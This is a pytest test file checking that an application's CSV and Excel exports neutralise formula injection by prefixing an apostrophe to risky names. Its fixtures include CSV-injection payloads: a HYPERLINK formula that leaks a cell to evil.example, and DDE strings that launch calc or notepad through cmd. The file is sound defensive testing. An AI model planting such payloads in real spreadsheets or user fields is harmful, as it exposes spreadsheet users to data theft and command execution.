"""CSV and Excel exports neutralise formula cells: agent, team and rubric names that start like a
formula come out as text with a leading apostrophe (OWASP), in every export that writes them."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from trainer.access import Actor
from trainer.cli import app
from trainer.db.repository import store_conversation
from trainer.db.session import session_scope
from trainer.services.cells import FORMULA_STARTS, safe_cell, safe_row
from trainer.services.exports import export_agent, export_scorecard, table_csv, table_xlsx
from trainer.services.scorecard_data import make_filter
from trainer.services.scoring import score_stored

from ..conftest import GOOD_CHAT, POOR_CHAT, make_conversation, make_user

ADMIN = Actor.local_admin()
# Agent and team names an attacker could choose (a staff import, an ingested chat's agent).
EVIL_AGENT = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_AGENT_2 = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_TEAM = "+cmd|' /C notepad'!A0"
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x","y")',
]


def _formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_prefixes_formula_starts(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Sam Lee", "", "-0.5", "+3", "1e5", 42, -1.5, None, "a=b"])
def test_safe_cell_leaves_data_alone(value):
    assert safe_cell(value) == value


def test_table_csv_and_xlsx_neutralise_every_cell_and_header():
    columns = [("=key", "=Label"), ("score", "Score")]
    rows = [{"=key": p, "score": -1.5} for p in PAYLOADS]
    read = list(csv.reader(io.StringIO(table_csv(columns, rows).decode("utf-8"))))
    assert read[0] == ["'=key", "score"]
    assert [r[0] for r in read[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in read[1:]] == ["-1.5"] * len(PAYLOADS)  # numbers stay numbers
    sheet = load_workbook(io.BytesIO(table_xlsx(columns, rows))).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)  # no formula cell at all
    assert not any(_formula_like(c.value) for c in cells)
    # (XML keeps no lone carriage return: Excel files read it back as a line feed)
    assert [c.value for c in sheet["A"][1:]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert [c.value for c in sheet["B"][1:]] == [-1.5] * len(PAYLOADS)


@pytest.fixture
def evil_world(sqlite_url):
    """Two agents and a team with formula names, with scored chats from the last days."""
    now = datetime.now(UTC).replace(microsecond=0)
    with session_scope() as session:
        make_user(session, EVIL_AGENT, "agent", [EVIL_TEAM], email="evil1@example.com")
        make_user(session, EVIL_AGENT_2, "agent", [EVIL_TEAM], email="evil2@example.com")
        for i, (agent, turns) in enumerate([(EVIL_AGENT, GOOD_CHAT), (EVIL_AGENT_2, POOR_CHAT)]):
            store_conversation(
                session,
                make_conversation(
                    turns,
                    external_id=f"f-{i}",
                    agent=agent,
                    channel="chat",
                    customer="=cmd",
                    started_at=now - timedelta(days=1 + i),
                ),
            )
        score_stored(session, None)
    return sqlite_url


def _all_csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def _all_xlsx_cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    return [c for row in sheet.iter_rows() for c in row]


@pytest.mark.parametrize("by", ["agent", "team"])
def test_scorecard_exports_neutralise_names(evil_world, by):
    with session_scope() as session:
        filters = make_filter()
        as_csv = export_scorecard(session, ADMIN, filters, by, "csv")
        as_xlsx = export_scorecard(session, ADMIN, filters, by, "xlsx")
    cells = _all_csv_cells(as_csv)
    expected = {"'" + EVIL_AGENT, "'" + EVIL_AGENT_2} if by == "agent" else {"'" + EVIL_TEAM}
    assert expected <= set(cells)
    assert not any(_formula_like(c) for c in cells)
    xlsx = _all_xlsx_cells(as_xlsx)
    assert expected <= {c.value for c in xlsx}
    assert all(c.data_type != "f" for c in xlsx)
    assert not any(_formula_like(c.value) for c in xlsx)


def test_agent_scorecard_exports_neutralise_cells(evil_world):
    with session_scope() as session:
        filters = make_filter()
        as_csv = export_agent(session, ADMIN, EVIL_AGENT, filters, "csv")
        as_xlsx = export_agent(session, ADMIN, EVIL_AGENT, filters, "xlsx")
    cells = _all_csv_cells(as_csv)
    assert "Overall" in cells  # the table is really there
    assert not any(_formula_like(c) for c in cells)
    xlsx = _all_xlsx_cells(as_xlsx)
    assert "Overall" in {c.value for c in xlsx}
    assert all(c.data_type != "f" for c in xlsx)
    assert not any(_formula_like(c.value) for c in xlsx)


def test_cli_report_csv_neutralises_names(evil_world):
    result = CliRunner().invoke(app, ["report", "--format", "csv"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    cells = _all_csv_cells(result.output.encode("utf-8"))
    assert "'" + EVIL_AGENT in cells
    assert not any(_formula_like(c) for c in cells)


def test_safe_row_keeps_order_and_length():
    assert safe_row(["=a", 1, "b"]) == ["'=a", 1, "b"]


def test_cli_cohort_progress_csv_neutralises_member_names(sqlite_url):
    from datetime import date

    from trainer.services import onboarding

    from ..conftest import actor_of

    evil_trainee = "=1+2*cmd|' /C calc'!A0"
    with session_scope() as session:
        make_user(session, evil_trainee, "trainee", ["North"], email="t1@example.com")
        make_user(session, "Hana Ito", "hr")
    with session_scope() as session:
        onboarding.create_cohort(
            session,
            actor_of(session, "Hana Ito"),
            "@SUM(1) hires",
            "new-hire-basics",
            date.today() + timedelta(days=30),
            [evil_trainee],
        )
    result = CliRunner().invoke(
        app, ["cohort", "progress", "@SUM(1) hires", "--format", "csv"], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    cells = _all_csv_cells(result.output.encode("utf-8"))
    assert "'" + evil_trainee in cells
    assert not any(_formula_like(c) for c in cells)
